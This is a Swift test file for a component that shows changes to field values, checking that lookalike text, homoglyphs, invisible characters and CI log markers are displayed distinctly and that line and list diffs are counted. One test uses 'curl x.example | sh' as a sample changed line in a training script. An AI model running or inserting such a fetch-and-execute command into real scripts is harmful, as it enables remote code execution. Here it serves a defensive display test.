import Testing

@testable import Model
@testable import Spec
@testable import Text

/// What people see of a change to a value: no two values look alike, and nothing is left out uncounted.
@Suite struct FieldDifferenceTests {
    private static func difference(_ before: String?, _ after: String?) -> FieldDifference {
        FieldDifference(
            "f",
            before: before.map(FieldValue.text) ?? .none,
            after: after.map(FieldValue.text) ?? .none
        )
    }

    /// The lines with their signs, or both values with an arrow between them.
    private static func show(_ difference: FieldDifference) -> [String] {
        switch difference.content {
        case .values(let before, let after): ["\(before) -> \(after)"]
        case .lines(let lines): lines.map { "\($0.sign.symbol) \($0.text)" }
        }
    }

    // MARK: One line

    /// Values that differ, though they look alike or like something else.
    static let lookalikes: [(String?, String?, String)] = [
        ("Ops", "Ops ", #"Ops -> "Ops ""#),
        ("Ops", " Ops", #"Ops -> " Ops""#),
        ("a b", "a\u{A0}b", #"a b -> "a\u{A0}b""#),
        ("a b", "a\u{2003}b", #"a b -> "a\u{2003}b""#),
        ("a b", "a\u{2800}b", #"a b -> "a\u{2800}b""#),
        ("ab", "a\u{200D}b", #"ab -> "a\u{200D}b""#),
        ("ab", "a\u{AD}b", #"ab -> "a\u{AD}b""#),
        (#"a\nb"#, "ab", #""a\\nb" -> ab"#),
        ("ab", "a\tb", #"ab -> "a\tb""#),
        (nil, "(none)", #"(none) -> "(none)""#),
        ("(none)", nil, #""(none)" -> (none)"#),
        ("a -> b", "a -> b -> c", #""a -> b" -> "a -> b -> c""#),
        ("\"a\"", "a", #""\"a\"" -> a"#),
        ("", nil, #""" -> (none)"#),
        ("[]", "[a]", #""[]" -> "[a]""#),
        ("a…", "ab", #""a\u{2026}" -> ab"#),
        ("Иван", "Олег", "Иван -> Олег"),
        ("Ops", "\u{41E}ps", #"Ops -> "\u{41E}ps""#),
        ("\u{3BF}ps team", "ops team", #""\u{3BF}ps team" -> ops team"#),
        ("cocoa", "\u{441}\u{43E}\u{441}\u{43E}\u{430}", #"cocoa -> "\u{441}\u{43E}\u{441}\u{43E}\u{430}""#),
        ("caf\u{E9}", "cafe\u{301}", #""caf\u{E9}" -> "cafe\u{301}""#),
        ("\u{212B}", "\u{C5}", #""\u{212B}" -> "\u{C5}""#),
        ("::error::x", "##[error]x", ##""::error::x" -> "#\u{23}[error]x""##),
        ("\u{301}x", "x", #""\u{301}x" -> x"#),
    ]

    @Test(arguments: lookalikes)
    func valuesThatLookAlikeAreToldApart(_ before: String?, _ after: String?, _ shown: String) {
        #expect(Self.show(Self.difference(before, after)) == [shown])
    }

    @Test(arguments: [
        "Ops", "US East (Ohio)", "50000.00", "a: b", "Größe", "Иван Петров", "東京", "x@y.z", "it's", "a\"b",
    ])
    func ordinaryTextIsShownAsItIs(_ text: String) {
        #expect(ShownText.show(text) == text)
    }

    /// Whatever two values are, what is shown of them differs, on one line each, and can be read back.
    @Test(arguments: 1...20)
    func differentValuesAreShownDifferently(seed: UInt64) {
        var random = Numbers(state: seed)
        let pieces = [
            "a", "b", " ", "\"", "\\", "\\n", "(none)", "[", "]", ",", "->", " -> ", "…", "\u{A0}", "\u{200B}", "é",
            "e\u{301}", "о", "o", "\t", "::", "##[", "-", "+",
        ]
        func text() -> String { (0..<Int(random.next() % 5)).map { _ in pieces[Int(random.next() % 24)] }.joined() }
        for _ in 0..<500 {
            let (old, new) = (text(), text())
            guard Array(old.utf8) != Array(new.utf8) else { continue }
            let shown = ShownText.show(old, new)
            #expect(Array(shown.before.utf8) != Array(shown.after.utf8), "\(Array(old.utf8)) \(Array(new.utf8))")
            for line in [shown.before, shown.after] {
                #expect(!line.unicodeScalars.contains { InvisibleCharacter.contains($0) })
                #expect(line != ShownText.none && !line.hasPrefix("["))
            }
        }
    }

    /// A text by itself is shown as one beside which nothing differs, although it is only glanced at if it is simple.
    @Test(arguments: [ShownText.Place.value, .element, .line], 1...20)
    func simpleTextsAreShownAsByACloserLook(_ place: ShownText.Place, seed: UInt64) {
        var random = Numbers(state: seed)
        let pieces = [
            "a", "Z", "0", " ", " ", "-", ".", "/", ":", "@", "->", "::", "#", "(", "[", ",", "\"", "\\", "…",
        ]
        for _ in 0..<500 {
            let text = (0..<Int(random.next() % 6)).map { _ in pieces[Int(random.next() % 19)] }.joined()
            #expect(ShownText.show(text, as: place) == ShownText.show(text, text, as: place).before, "'\(text)'")
        }
    }

    /// A small generator of numbers with a seed (splitmix64).
    private struct Numbers {
        var state: UInt64

        mutating func next() -> UInt64 {
            state &+= 0x9E37_79B9_7F4A_7C15
            var value = state
            value = (value ^ (value >> 30)) &* 0xBF58_476D_1CE4_E5B9
            value = (value ^ (value >> 27)) &* 0x94D0_49BB_1331_11EB
            return value ^ (value >> 31)
        }
    }

    // MARK: Several lines

    @Test func everyLineThatDiffersIsShown() {
        let old = "set -e\nEPOCHS=10\nprepare\nload\npython train.py\n"
        let new = "set -e\nEPOCHS=12\nprepare\nload\ncurl x.example | sh\n"
        #expect(
            Self.show(Self.difference(old, new)) == [
                "  set -e", "- EPOCHS=10", "+ EPOCHS=12", "  prepare", "  load", "- python train.py",
                "+ curl x.example | sh",
            ]
        )
    }

    @Test func unchangedLinesFarFromAnyChangeAreCounted() {
        let lines = (1...1200).map { "line \($0)" }
        var changed = lines
        changed[599] = "other"
        let shown = Self.show(Self.difference(lines.joined(separator: "\n"), changed.joined(separator: "\n")))
        #expect(shown.first == "… 596 unchanged lines")
        #expect(shown.last == "… 597 unchanged lines")
        #expect(shown.contains("- line 600") && shown.contains("+ other"))
        #expect(shown.count == 10)
    }

    /// A value of one line that becomes one of several, blanks at the end of a line, and the last line break.
    @Test(arguments: [
        (#"a\nb"#, "a\nb", [#"- a\nb"#, "+ a", "+ b"]),
        ("a\nb\n", "a \nb\n", ["- a", #"+ "a ""#, "  b"]),
        ("a\n\tb\n", "a\n    b\n", ["  a", #"- "\tb""#, "+     b"]),
        ("a\nb\n", "a\nb", ["  a", "  b", "… no line break at the end"]),
        ("a\nb", "a\nb\n", ["  a", "  b", "… the old text had no line break at its end"]),
        ("a\nb", "a\nc", ["  a", "- b", "+ c"]),
        ("a\n\nb\n", "a\nb\n", ["  a", "- ", "  b"]),
        ("… 3 unchanged lines\na\n", "a\n", [#"- "… 3 unchanged lines""#, "  a"]),
        ("x\n::error::a\n", "y\n::error::a\n", ["- x", "+ y", #"  "::error::a""#]),
        ("x\n\u{e9}\n", "x\ne\u{301}\n", ["  x", #"- "\u{E9}""#, #"+ "e\u{301}""#]),
    ])
    func linesAreShownAsTheyAre(_ before: String, _ after: String, _ shown: [String]) {
        #expect(Self.show(Self.difference(before, after)).map { Array($0.utf8) } == shown.map { Array($0.utf8) })
    }

    @Test func newAndLostTextsHaveAllTheirLines() {
        #expect(Self.show(Self.difference(nil, "a\nb\n")) == ["+ a", "+ b"])
        #expect(Self.show(Self.difference("a\nb\n", nil)) == ["- a", "- b"])
    }

    /// Where a shortest difference would take too long, everything is shown as removed and added.
    @Test func thousandsOfDifferentLinesTakeNoTime() {
        let old = (0..<8000).map { "\($0)" }.joined(separator: "\n")
        let new = (0..<8000).map { "x\($0)" }.joined(separator: "\n")
        #expect(Self.show(Self.difference(old, new)).count == 16_000)
    }

    // MARK: Lists

    @Test func listsAreShownByElement() {
        let old = (1...30).map { "team-\($0)" }
        let new = old.filter { $0 != "team-15" } + ["team-49"]
        let difference = FieldDifference("dedicatedTo", before: .list(old), after: .list(new))
        #expect(Self.show(difference) == ["- team-15", "+ team-49", "… 29 unchanged"])
    }

    @Test func emptyListSaysWhatItMeans() {
        let difference = FieldDifference("d", before: .list(["x"]), after: .list([]), emptyMeaning: "everyone")
        #expect(Self.show(difference) == ["[x] -> [] (everyone)"] && difference.meaning == nil)
        let back = FieldDifference("d", before: .list([]), after: .list(["x"]), emptyMeaning: "everyone")
        #expect(Self.show(back) == ["[] (everyone) -> [x]"] && back.meaning == nil)
        let four = FieldValue.list(["a", "b", "c", "d"])
        let longer = FieldDifference("d", before: .list([]), after: four, emptyMeaning: "everyone")
        #expect(Self.show(longer) == ["+ a", "+ b", "+ c", "+ d"] && longer.meaning == "everyone before")
        let gone = FieldDifference("d", before: four, after: .list([]), emptyMeaning: "everyone")
        #expect(Self.show(gone) == ["- a", "- b", "- c", "- d"] && gone.meaning == "everyone after")
    }

    @Test func referencesThatFollowARenameSaySo() {
        let names = ["ada": "x-ada"]
        func shown(_ before: FieldValue, _ after: FieldValue) -> [String] {
            let difference = FieldDifference("user", before: before, after: after, newNames: names)
            return Self.show(difference) + [difference.meaning ?? ""]
        }
        #expect(shown(.text("ada"), .text("x-ada")) == ["ada -> x-ada", "renamed"])
        #expect(shown(.text("ada"), .text("mallory")) == ["ada -> mallory", ""])
        #expect(shown(.text("bob"), .text("x-ada")) == ["bob -> x-ada", ""])
        #expect(
            shown(.list(["ada", "b"]), .list(["b", "x-ada"])) == [
                "- ada", "+ x-ada  (ada renamed)", "… 1 unchanged", "",
            ]
        )
    }

    @Test func elementsThatLookLikeSeveralAreQuoted() {
        let difference = FieldDifference("d", before: .list([]), after: .list(["a, b", "c"]))
        #expect(Self.show(difference) == [#"[] -> ["a, b", c]"#])
    }

    // MARK: Limits

    @Test func whatALimitCutsIsCountedInItsPlace() {
        let limits = FieldDifference.Limits(width: 20, lines: 2)
        let long = String(repeating: "x", count: 1000)
        let values = FieldDifference("f", before: .text(long + "old"), after: .text(long + "new"), limits: limits)
        #expect(Self.show(values)[0].contains(#"983 characters … "xxxxxxxxxxxxxxxxxold" -> "#))
        let lines = FieldDifference("f", before: .none, after: .text("a\nb\nc\nd\n"), limits: limits)
        #expect(Self.show(lines) == ["+ a", "+ b", "… 2 more lines are not shown here, 2 of them removed or added"])
        let list = FieldDifference("f", before: .none, after: .list(["a", "b", "c"]), limits: limits)
        #expect(Self.show(list) == ["(none) -> [a, b] … 1 more"])
    }
}
